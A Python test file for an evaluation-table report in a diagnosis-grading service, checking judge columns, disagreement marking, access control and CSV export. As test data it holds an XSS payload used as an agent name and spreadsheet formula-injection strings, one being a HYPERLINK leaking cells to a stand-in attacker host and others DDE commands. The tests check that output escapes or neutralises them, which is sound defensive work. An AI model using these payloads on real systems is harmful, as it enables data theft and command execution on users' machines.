"""The evaluation table: one row per attempt, one column per judge (a shadow regrade's
judge beside the service's), each cell the verdict and yes count linking to its grading;
rows where a column passes and another fails marked, filterable, and the same as CSV."""

from __future__ import annotations

import csv
import html
import io
import re
from typing import Any

import pytest

from api.reports import evaluation
from api.reports.evaluation import evaluation_table
from api.reports.filters import ReportFilter
from judge.backends.scripted import ScriptedBackend
from storage import Store
from tests.support.app_client import AppClient
from tests.support.gradings import add_grading
from tests.support.judge_server import sregym_reply
from tests.support.regrades import shadow_regrade
from tests.support.submissions import DIAGNOSIS, IDS, TRUTH, scripted_judge
from tests.web.conftest import sign_in

OTHER = "openai:other@http://127.0.0.1:9/v1"
HOSTILE = "<img src=x onerror=alert(1)>"
#: a quote of the diagnosis: the yes answers are backed by evidence
QUOTE = "sets USER_PORT=9999"


def _judges() -> dict[str, Any]:
    """The service's judge passes three diagnoses; OTHER passes only the first."""
    settings = scripted_judge(*[sregym_reply(set(IDS), evidence=QUOTE)] * 3)
    strict = [sregym_reply(set(IDS), evidence=QUOTE)] + [
        sregym_reply(set(IDS[:n]), evidence=QUOTE) for n in (3, 4)
    ]
    settings["backends"][OTHER] = ScriptedBackend(strict, model="other")
    return settings


async def _three_attempts_two_judges(
    c: AppClient, agent: dict[str, str], admin: dict[str, str]
) -> list[str]:
    ids = []
    for n in range(3):
        body = {"diagnosis": f"{DIAGNOSIS} Attempt {n}.", "ground_truth": TRUTH}
        body["agent"] = HOSTILE if n == 2 else "alpha"
        response = await c.post("/v1/submissions?wait=10", json=body, headers=agent)
        assert response.json()["status"] == "graded", response.text
        ids.append(response.json()["id"])
    await shadow_regrade(c, admin, OTHER)
    return ids


async def test_two_judges_one_row_per_attempt_with_disagreements_marked(
    api_client: Any, tokens: Any
) -> None:
    agent, admin = await tokens("submitter"), await tokens("admin", "Root")
    async with api_client(**_judges()) as c:
        ids = await _three_attempts_two_judges(c, agent, admin)
        url = "/v1/stats/evaluation-table?by=judge"
        table = (await c.get(url, headers=admin)).json()
        assert table["columns"] == ["openai:other", "openai:scripted"]
        assert len(table["rows"]) == 3 and table["disagreeing"] == 2
        rows = {r["cells"]["openai:scripted"]["grading_id"]: r for r in table["rows"]}
        assert set(rows) == set(ids)  # each attempt's grading by the service's judge
        cells = [
            (
                r["cells"]["openai:scripted"]["verdict"],
                r["cells"]["openai:other"]["verdict"],
                r["disagree"],
            )
            for r in rows.values()
        ]
        assert sorted(cells) == [("PASS", "FAIL", True)] * 2 + [("PASS", "PASS", False)]

        only = (await c.get(f"{url}&disagreeing_only=true", headers=admin)).json()
        assert len(only["rows"]) == 2 and all(r["disagree"] for r in only["rows"])

        answer = await c.get("/v1/stats/evaluation-table.csv?by=judge", headers=admin)
        assert answer.headers["content-type"].startswith("text/csv")
        lines = list(csv.DictReader(io.StringIO(answer.text)))
        assert len(lines) == 3 and sorted(r["disagree"] for r in lines) == ["no", "yes", "yes"]
        assert {r["openai:other yes"] for r in lines} == {"9", "3", "4"}


async def test_the_page_marks_disagreements_escapes_names_and_offers_csv(
    api_client: Any, tokens: Any
) -> None:
    agent, admin = await tokens("submitter"), await tokens("admin", "Root")
    async with api_client(**_judges()) as c:
        await _three_attempts_two_judges(c, agent, admin)
        await sign_in(c, admin)
        page = (await c.get("/reports/table?by=judge&disagreeing_only=true")).text
        assert page.count('data-disagree="yes"') == 2 and 'data-disagree="no"' not in page
        every = (await c.get("/reports/table?by=judge")).text
        assert every.count('data-disagree="') == 3
        assert HOSTILE not in every and "&lt;img src=x" in every
        csv_answer = await c.get("/reports/table.csv?by=judge")
        assert csv_answer.status_code == 200 and len(csv_answer.text.splitlines()) == 4


async def test_the_page_summary_says_the_table_counts_shadow_regrades(
    api_client: Any, tokens: Any
) -> None:
    """The table counts shadow-regrade gradings unless told otherwise, and its summary
    line says so rather than "all current gradings" above a shadow judge's column."""
    agent, admin = await tokens("submitter"), await tokens("admin", "Root")
    async with api_client(**_judges()) as c:
        await _three_attempts_two_judges(c, agent, admin)
        await sign_in(c, admin)
        page = (await c.get("/reports/table?by=judge")).text
    assert "openai:other" in page  # the shadow regrade's column
    summary = re.search(r'data-testid="table-summary">(.*?)<a ', page, re.S)
    assert summary is not None
    text = html.unescape(summary.group(1))
    assert "include=shadow" in text and "all current gradings" not in text, text


async def test_submitters_get_no_table_and_a_bad_column_kind_is_named(
    api_client: Any, tokens: Any
) -> None:
    agent, ada = await tokens("submitter"), await tokens("adjudicator", "Ada")
    async with api_client() as c:
        refused = await c.get("/v1/stats/evaluation-table", headers=agent)
        assert refused.status_code == 403
        bad = await c.get("/v1/stats/evaluation-table?by=colour", headers=ada)
        assert bad.status_code == 422 and "by" in bad.text


async def test_a_cell_never_hides_another_submissions_grading(store: Store) -> None:
    """Rows are scenario attempts and each column one agent's or model's: attempts with no
    number, or two agents' attempts on one model, would share a cell, and all but the
    newest vanished from the table. Each gets a row of its own (``key#2``) instead;
    attempts that do align still share their row."""
    first = await add_grading(store, "pass", agent="a", scenario_id="s1")
    second = await add_grading(store, "fail", agent="a", scenario_id="s1")
    other = await add_grading(store, "pass", agent="b", scenario_id="s1")
    by_agent = await evaluation_table(store, ReportFilter(), by="agent")
    assert sorted(_cell_ids(by_agent, "a")) == sorted([first, second])
    assert _cell_ids(by_agent, "b") == [other] and len(by_agent.rows) == 2

    ga = await add_grading(store, "pass", agent="a", model="m1", scenario_id="s2", attempt=1)
    gb = await add_grading(store, "fail", agent="b", model="m1", scenario_id="s2", attempt=1)
    m2 = await add_grading(store, "pass", agent="a", model="m2", scenario_id="s2", attempt=1)
    by_model = await evaluation_table(store, ReportFilter(scenario_id="s2"), by="model")
    assert sorted(_cell_ids(by_model, "m1")) == sorted([ga, gb])
    assert _cell_ids(by_model, "m2") == [m2]


async def test_a_human_verdict_on_an_unscored_grading_shows_in_its_cell(
    api_client: Any, tokens: Any, store: Store
) -> None:
    """The table's verdicts are after human overrides, as pass rates count them: when the
    judge could not score a diagnosis and an adjudicator read it and passed it, the cell
    says PASS (not UNSCORED), and the row disagrees with a column that failed it."""
    unscored = await add_grading(store, "unscored", scenario_id="s1", agent="x")
    ada = await tokens("adjudicator", "Ada")
    async with api_client(start_workers=False) as c:
        url = f"/v1/gradings/{unscored}"
        etag = (await c.get(url, headers=ada)).headers["ETag"]
        overridden = await c.post(
            f"{url}/overrides",
            json={"verdict": "pass", "reason": "read it myself"},
            headers={**ada, "If-Match": etag},
        )
        assert overridden.status_code == 201, overridden.text
        await add_grading(store, "fail", scenario_id="s1", agent="y")
        rates = (await c.get("/v1/stats/pass-rates?agent=x", headers=ada)).json()
        query = "/v1/stats/evaluation-table?by=agent&scenario_id=s1"
        table = (await c.get(query, headers=ada)).json()
    assert (rates["overall"]["passed"], rates["overall"]["unscored"]) == (1, 0)
    [row] = table["rows"]
    assert {k: cell["verdict"] for k, cell in row["cells"].items()} == {"x": "PASS", "y": "FAIL"}
    assert row["cells"]["x"]["grading_id"] == unscored
    assert row["disagree"] is True and table["disagreeing"] == 1


def _cell_ids(table: Any, column: str) -> list[str]:
    return [row.cells[column].grading_id for row in table.rows if column in row.cells]


#: what a submitter may name its agent, model and run so that a spreadsheet runs it
FORMULAS = {
    "agent": '=HYPERLINK("https://evil.example/?leak="&B2,"open")',
    "model": "+cmd|' /C calc'!A0",
    "run_id": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def test_csv_for_people_never_hands_a_spreadsheet_a_formula(
    api_client: Any, tokens: Any
) -> None:
    """An agent's name, model or run id beginning ``=``, ``+``, ``@`` reached the CSV an
    adjudicator opens in a spreadsheet as it was sent, where it runs (a link leaking
    other cells, a DDE command). The workbench's and the API's CSV and the CSV export
    prefix such text with ``'``; the SREGym export keeps its cells byte for byte."""
    agent, ada = await tokens("submitter"), await tokens("adjudicator", "Ada")
    body = {"diagnosis": DIAGNOSIS, "ground_truth": TRUTH, **FORMULAS}
    async with api_client(**scripted_judge(sregym_reply(set(IDS)))) as client:
        sent = await client.post("/v1/submissions?wait=10", json=body, headers=agent)
        assert sent.status_code == 201, sent.text
        admin = await tokens("admin")
        api = await client.get("/v1/stats/evaluation-table.csv?inline=include", headers=ada)
        export = await client.get("/v1/exports/gradings?format=csv", headers=admin)
        sregym = await client.get("/v1/exports/gradings?format=sregym", headers=admin)
        await sign_in(client, ada)
        page = await client.get("/reports/table.csv?inline=include")
    for response in (page, api, export):
        assert response.status_code == 200, response.text
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert f"'{FORMULAS['agent']}" in cells and f"'{FORMULAS['run_id']}" in cells
    assert FORMULAS["agent"] in next(csv.reader(io.StringIO(sregym.text.splitlines()[1])))


async def _old_disagreement_then_agreements(store: Store) -> None:
    """The oldest attempt is the only one where two agents disagree; then two newer
    attempts (other scenarios) where they agree."""
    await add_grading(store, "pass", scenario_id="s-old", agent="x", attempt=1)
    await add_grading(store, "fail", scenario_id="s-old", agent="y", attempt=1)
    for scenario in ("s-new-1", "s-new-2"):
        await add_grading(store, "pass", scenario_id=scenario, agent="x", attempt=1)
        await add_grading(store, "pass", scenario_id=scenario, agent="y", attempt=1)


async def test_disagreeing_only_finds_a_disagreement_past_the_newest_rows(
    api_client: Any, tokens: Any, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The table holds the newest ``MAX_ROWS`` attempts, but ``disagreeing_only`` picks
    the disagreeing rows out of every attempt first: one old disagreement among many
    agreeing attempts is listed and counted."""
    monkeypatch.setattr(evaluation, "MAX_ROWS", 2)
    await _old_disagreement_then_agreements(store)
    admin = await tokens("admin")
    async with api_client(start_workers=False) as client:
        response = await client.get(
            "/v1/stats/evaluation-table",
            params={"by": "agent", "disagreeing_only": "true"},
            headers=admin,
        )
        whole = await client.get(
            "/v1/stats/evaluation-table", params={"by": "agent"}, headers=admin
        )
    assert response.status_code == 200, response.text
    table = response.json()
    assert table["disagreeing"] == 1 and table["truncated"] is False, table
    assert [row["scenario_id"] for row in table["rows"]] == ["s-old"], table
    cut = whole.json()  # every attempt: the newest two, and the one left out counted
    assert (cut["truncated"], cut["disagreeing"], len(cut["rows"])) == (True, 1, 2), cut


async def test_a_truncated_evaluation_csv_says_so_in_its_headers(
    api_client: Any, tokens: Any, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV cannot say in its rows that attempts were left out: its headers do, as the
    JSON table's ``truncated``, with the rows it holds; on the workbench's CSV link too."""
    monkeypatch.setattr(evaluation, "MAX_ROWS", 2)
    await _old_disagreement_then_agreements(store)
    admin, ada = await tokens("admin"), await tokens("adjudicator", "Ada")
    async with api_client(start_workers=False) as client:
        as_csv = await client.get(
            "/v1/stats/evaluation-table.csv", params={"by": "agent"}, headers=admin
        )
        whole = await client.get(
            "/v1/stats/evaluation-table.csv",
            params={"by": "agent", "disagreeing_only": "true"},
            headers=admin,
        )
        await sign_in(client, ada)
        page = await client.get("/reports/table.csv", params={"by": "agent"})
    for answer, rows, cut in ((as_csv, 2, "true"), (whole, 1, "false"), (page, 2, "true")):
        assert answer.status_code == 200, answer.text
        assert len(list(csv.DictReader(io.StringIO(answer.text)))) == rows
        assert answer.headers["x-table-rows"] == str(rows)
        assert answer.headers["x-table-truncated"] == cut
